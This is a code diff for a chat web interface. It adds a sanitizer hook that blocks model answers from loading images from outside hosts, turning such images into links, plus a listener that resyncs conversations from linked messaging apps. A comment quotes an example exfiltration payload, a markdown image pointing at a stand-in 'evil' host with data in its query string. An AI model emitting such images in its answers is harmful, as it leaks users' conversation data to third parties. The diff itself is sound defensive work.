@@ -275,6 +275,7 @@
         node.setAttribute("rel", "noopener noreferrer nofollow");
       }
     });
+    window.DOMPurify.addHook("afterSanitizeAttributes", keepImagesLocal);
     // GitHub-flavoured Markdown (tables, fenced code, autolinks), single newlines kept; raw
     // HTML is shown as text, as a model's or user's HTML must never become markup.
     markdown = new window.marked.Marked({
@@ -284,6 +285,37 @@
     });
   });
 
+  /* Images in model answers load only from this page's origin, data:/blob: URLs, the logo's
+   * origin and the client's imageOrigins (the same list as the page's CSP img-src). Any other
+   * image becomes a link: an answer like ![x](http://evil/?c=...) must not make the browser
+   * call that host. Runs on DOMPurify's inert copy, before anything reaches the page. */
+  const IMAGE_ORIGINS = new Set([window.location.origin, ...(cfg.imageOrigins || [])]);
+  function imageAllowed(src) {
+    try {
+      const url = new URL(src, window.location.href);
+      return url.protocol === "data:" || url.protocol === "blob:" || IMAGE_ORIGINS.has(url.origin);
+    } catch {
+      return false;
+    }
+  }
+  function imageAsLink(img) {
+    const src = img.getAttribute("src") || "";
+    const link = img.ownerDocument.createElement("a");
+    if (/^https?:/i.test(src)) {
+      link.setAttribute("href", src);
+      link.setAttribute("target", "_blank");
+      link.setAttribute("rel", "noopener noreferrer nofollow");
+    }
+    link.textContent = img.getAttribute("alt") || src;
+    img.replaceWith(link);
+  }
+  /* A DOMPurify afterSanitizeAttributes hook (registered once DOMPurify has loaded). */
+  function keepImagesLocal(node) {
+    if (node.tagName === "IMG" || node.tagName === "SOURCE") node.removeAttribute("srcset");
+    if (node.tagName === "IMG" && !imageAllowed(node.getAttribute("src") || "")) {
+      imageAsLink(node);
+    }
+  }
   const PURIFY = {
     USE_PROFILES: { html: true },
     FORBID_TAGS: ["style", "form", "input", "button", "textarea", "select", "iframe"],
@@ -1621,6 +1653,12 @@
     script.textContent = cfg.customScripts;
     document.body.appendChild(script);
   }
+
+  /* Another script (channels.js) saw the conversation change elsewhere (a linked Telegram or
+   * WhatsApp chat): show the server's copy, unless a reply is streaming here right now. */
+  window.addEventListener("chinwag:resync", () => {
+    if (!state.turn && !state.expired) loadConversation().catch(() => {});
+  });
 
   /* A small surface for customScripts. */
   window.chinwag = Object.freeze({
